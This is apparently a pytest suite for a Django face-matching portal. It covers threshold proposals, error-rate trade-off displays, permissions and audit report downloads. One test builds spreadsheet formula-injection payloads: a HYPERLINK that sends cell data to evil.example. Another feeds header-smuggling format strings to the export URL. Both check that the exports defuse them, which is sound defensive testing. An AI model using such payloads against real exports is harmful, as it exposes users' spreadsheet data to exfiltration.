from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils.html import escape

from matching.accuracy.gallery_risk import in_100_interval, operating_point_for, threshold_consequences
from matching.models import AuditGroup
from portal.models import AuditEvent
from tests.factories import audit_run_rows, searchable_subjects, women_who_look_alike


def _mixed_gallery(org):
    searchable_subjects(org, 60, ethnicity="Asian", sex="M")
    searchable_subjects(org, 60, ethnicity="White", sex="F", age_band="30-44")
    searchable_subjects(org, 60, age_band="0-9")


def test_org_admin_sees_the_proposed_threshold_with_both_sides_for_this_gallery(client, dana, audit_run, org):
    # Given a gallery of 180 people, children among them
    _mixed_gallery(org)
    client.force_login(dana)

    # When the org admin opens the settings
    page = client.get(reverse("matching:organisation_settings")).content.decode()

    # Then the page proposes the operating point, and says both what it lets through and what it misses
    point = operating_point_for(threshold_consequences(org))
    assert point.proposed is not None and point.proposed != org.distance_threshold
    assert f"Proposed threshold: {point.proposed}" in page
    assert "In this gallery of 180 people, at" in page
    assert (
        f"about <strong>{in_100_interval(point.everyone.fpir, point.everyone.fpir_low, point.everyone.fpir_high)}"
        in page
    )
    assert "out of 100 searches for someone who is enrolled" in page
    # per group, out of 100 searches for a stranger and for someone enrolled, at the threshold in use and proposed
    assert 'id="tradeoff-table"' in page and "(in use)" in page and "(proposed)" in page
    assert "strangers: return someone, in 100" in page and "enrolled: missed, in 100" in page
    # and a group this engine cannot keep strangers out of is named as weak evidence
    for weak in point.weak:
        assert escape(weak.sentence) in page


def test_a_proposal_that_misses_most_true_matches_says_so_in_its_headline(client, dana, org):
    # Given an audit in which the women hold the threshold at 0.45, where half the true matches are missed
    women_who_look_alike(org)
    searchable_subjects(org, 10, sex="F")
    searchable_subjects(org, 10, sex="M")
    client.force_login(dana)

    # When the org admin opens the settings
    page = client.get(reverse("matching:organisation_settings")).content.decode()

    # Then the headline says so before anything else
    headline = page[page.index('id="proposal-headline"') :]
    assert "Proposed threshold: 0.45" in page
    first = headline.index("At 0.45 this portal misses most true matches")
    assert first < headline.index("In this gallery of 20 people")


def test_with_every_measured_group_weak_nothing_is_proposed(client, dana, audit_run, org):
    _mixed_gallery(org)
    org.fpir_ceiling = 0.01
    org.save(update_fields=["fpir_ceiling"])
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    assert operating_point_for(threshold_consequences(org)).proposed is None
    assert "No threshold keeps every measured group under your ceiling" in page


POLICY = {"target_fmr": "0.001", "fpir_ceiling": "0.5", "audit_max_age_days": "180"}


def test_the_policy_form_does_not_change_the_threshold_or_max_candidates(client, dana, org):
    # Given an organisation whose threshold dana confirmed at 0.6
    confirmed_at = org.threshold_confirmed_at
    client.force_login(dana)

    # When the "Matching and review policy" form is posted with another threshold and number of candidates
    response = client.post(
        reverse("matching:organisation_settings"),
        {**POLICY, "fpir_ceiling": "0.4", "distance_threshold": "0.9", "max_candidates": "50"},
    )

    # Then the policy is saved, but the threshold and the candidates stay as confirmed
    assert response.status_code == 302
    org.refresh_from_db()
    assert org.fpir_ceiling == 0.4
    assert (org.distance_threshold, org.max_candidates, org.threshold_confirmed_at) == (0.6, 5, confirmed_at)
    event = AuditEvent.objects.get(action="organisation.update")
    assert event.detail["changes"] == {"fpir_ceiling": [0.5, 0.4]}


def test_a_confirmed_threshold_is_changed_only_by_confirming_the_new_one_beside_its_figures(
    client, dana, audit_run, org
):
    # Given a gallery, and a threshold confirmed at 0.6
    _mixed_gallery(org)
    confirmed_at = org.threshold_confirmed_at
    client.force_login(dana)

    # When dana asks for the figures at 0.5
    page = client.get(reverse("matching:organisation_settings"), {"threshold": "0.5"}).content.decode()

    # Then the page says what is in use and since when, shows 0.5 beside it, and offers to confirm 0.5
    change = page[page.index('id="threshold-change"') :]
    assert "Threshold in use: 0.6" in change and "at most 5 candidates per face" in change
    assert "at 0.5" in page[page.index('id="tradeoff-table"') :]
    assert 'name="threshold" value="0.5"' in change and 'name="understood"' in change

    # When she confirms it without saying she has read the figures
    refused = client.post(reverse("matching:organisation_settings"), {"action": "confirm", "threshold": "0.5"})

    # Then nothing changes
    assert refused.status_code == 400
    org.refresh_from_db()
    assert org.distance_threshold == 0.6 and org.threshold_confirmed_at == confirmed_at

    # When she confirms it, with 3 candidates per face
    response = client.post(
        reverse("matching:organisation_settings"),
        {"action": "confirm", "threshold": "0.5", "max_candidates": "3", "understood": "on"},
    )

    # Then both are in use, confirmed by her now, and the log says what changed
    assert response.status_code == 302
    org.refresh_from_db()
    assert (org.distance_threshold, org.max_candidates) == (0.5, 3)
    assert org.threshold_confirmed_at > confirmed_at and org.threshold_confirmed_by == dana
    event = AuditEvent.objects.get(action="organisation.threshold_confirm")
    assert event.actor == dana
    assert event.detail["threshold"] == [0.6, 0.5] and event.detail["max_candidates"] == [5, 3]


def test_a_bad_threshold_is_refused_and_nothing_changes(client, dana, org):
    client.force_login(dana)

    response = client.post(
        reverse("matching:organisation_settings"),
        {"action": "confirm", "threshold": "7", "max_candidates": "500", "understood": "on"},
    )

    assert response.status_code == 400
    org.refresh_from_db()
    assert (org.distance_threshold, org.max_candidates) == (0.6, 5)
    assert not AuditEvent.objects.filter(action__startswith="organisation.").exists()


def test_reviewers_and_caseworkers_cannot_change_settings(client, bob, alice):
    for user in (bob, alice):
        client.force_login(user)
        assert client.get(reverse("matching:organisation_settings")).status_code == 404


def test_the_audit_report_page_and_downloads(client, bob, audit_run, charlie):
    client.force_login(bob)

    page = client.get(reverse("matching:audit_report", args=[audit_run.pk]))
    csv_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "csv"])).content.decode()
    json_body = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "json"])).json()

    assert page.status_code == 200 and "<svg" in page.content.decode()
    assert csv_body.splitlines()[0].startswith("group,identities,photos")
    assert json_body["run"]["id"] == audit_run.pk
    client.force_login(charlie)
    assert client.get(reverse("matching:audit_report", args=[audit_run.pk])).status_code == 404


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_audit_csv_download_defuses_cells_a_spreadsheet_would_run(client, bob, org, start):
    # given: an evaluation set whose uploader named a column with a formula, so that it leads a group key
    run = audit_run_rows(org)
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Open")=White'
    AuditGroup.objects.filter(run=run).update(key=formula)
    client.force_login(bob)

    # when: a reviewer downloads the report as CSV
    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    # then: the cell is text, quoted, and nothing else changed
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert response.status_code == 200
    assert rows[1][0] == f"'{formula}"
    assert rows[1][1:4] == ["2", "4", "4"]


def test_the_audit_csv_download_leaves_plain_cells_alone(client, bob, org):
    run = audit_run_rows(org)
    AuditGroup.objects.filter(run=run).update(key="race=White & age_group=18 and over")
    client.force_login(bob)

    response = client.get(reverse("matching:audit_report_download", args=[run.pk, "csv"]))

    assert list(csv.reader(io.StringIO(response.content.decode())))[1][0] == "race=White & age_group=18 and over"


@pytest.mark.parametrize("fmt", ["html", "exe", "CSV", 'csv";filename="report.exe', "json.html"])
def test_the_audit_download_serves_only_csv_and_json(client, bob, org, fmt):
    run = audit_run_rows(org)
    client.force_login(bob)

    response = client.get(f"/audits/runs/{run.pk}/download.{fmt}")

    assert response.status_code == 404
    assert "Content-Disposition" not in response
    assert not AuditEvent.objects.filter(action="audit.export").exists()


def test_settings_draw_the_trade_off_with_the_thresholds_in_use_and_proposed(client, dana, audit_run, org):
    # Given a gallery of 300 subjects with nothing recorded: every stranger is compared with all of them
    searchable_subjects(org, 300)
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    # Then the trade-off curve marks both thresholds, the ceiling, and the method is there, collapsed
    assert 'aria-label="Trade-off: true matches missed against searches for a stranger that return someone"' in page
    assert "in use: 0.6" in page and "proposed: " in page and "ceiling: 50 in 100" in page
    assert '<details class="card" id="method">' in page and 'id="fpir-groups"' in page and 'id="strata"' in page
    assert "In this gallery of 300 people" in page
    # and at the default 0.6 some measured group's strangers get a candidate in most searches: the warning
    assert 'id="fpir-alarm"' in page and "most searches for a stranger return a candidate" in page


def test_the_fpir_warning_goes_once_the_threshold_is_low_enough(client, dana, audit_run, org):
    searchable_subjects(org, 300)
    org.distance_threshold = 0.3
    org.save(update_fields=["distance_threshold"])
    client.force_login(dana)

    page = client.get(reverse("matching:organisation_settings")).content.decode()

    assert 'id="fpir-alarm"' not in page


def test_the_audit_json_carries_intervals_method_effective_n_and_the_spread_of_fmr(client, bob, audit_run):
    client.force_login(bob)

    document = client.get(reverse("matching:audit_report_download", args=[audit_run.pk, "json"])).json()
    page = client.get(reverse("matching:audit_report", args=[audit_run.pk])).content.decode()

    assert document["run"]["interval_method"].startswith("identity-level Wilson")
    group = next(g for g in document["groups"] if g["key"] == "race=Asian")
    rate = next(r for r in group["rates"] if r["threshold"] == 0.6)
    assert rate["fmr_effective_n"] < rate["impostor_pairs"] and group["effective_pairs"] == rate["fmr_effective_n"]
    assert "fnmr_at_target_ci95" in group
    spread = {row["threshold"]: row for row in document["fmr_max_to_geomean"]}
    assert spread[0.6]["ratio"] > 1 and spread[0.6]["groups"] >= 2
    assert not any("age_band=" in g["key"] and "age_group=" in g["key"] for g in document["groups"])
    # Every group is drawn, or listed with the reason it is not
    for g in document["groups"]:
        assert g["key"].replace("&", "&amp;") in page
    assert "Groups not drawn" in page and "insufficient data:" in page


def test_the_audit_json_carries_the_1_to_n_figures_of_the_readers_gallery(client, dana, org):
    women_who_look_alike(org)
    searchable_subjects(org, 10, sex="F")
    searchable_subjects(org, 10, sex="M")
    run = org.audit_runs.get()
    client.force_login(dana)

    document = client.get(reverse("matching:audit_report_download", args=[run.pk, "json"])).json()

    section = document["one_to_many"]
    assert section["run"] == run.pk and section["gallery"]["subjects"] == 20
    assert section["operating_point"]["threshold"] == 0.45 and section["operating_point"]["misses_most"]
    assert section["operating_point"]["binding_group"] == "sex=F"
    women = next(g for g in section["groups"] if g["key"] == "sex=F")
    at = next(r for r in women["rates"] if r["threshold"] == 0.45)
    assert at["fpir_ci95"][0] <= at["fpir"] <= at["fpir_ci95"][1] and at["fnir_from"] == "group"
    assert {"path", "audit_people", "subjects"} <= set(section["strata"][0])


def test_the_audit_report_opens_with_what_the_run_proposes_for_the_readers_gallery(client, dana, org):
    run = women_who_look_alike(org)
    searchable_subjects(org, 10, sex="F")
    searchable_subjects(org, 10, sex="M")
    client.force_login(dana)

    page = client.get(reverse("matching:audit_report", args=[run.pk])).content.decode()

    summary = " ".join(page[page.index('id="advice"') :].split())  # as a reader sees it, whatever the line breaks
    assert summary.index("For your gallery:") < summary.index("Pairwise advice")
    assert "the settings page would propose 0.45" in summary and "it misses most true matches" in summary
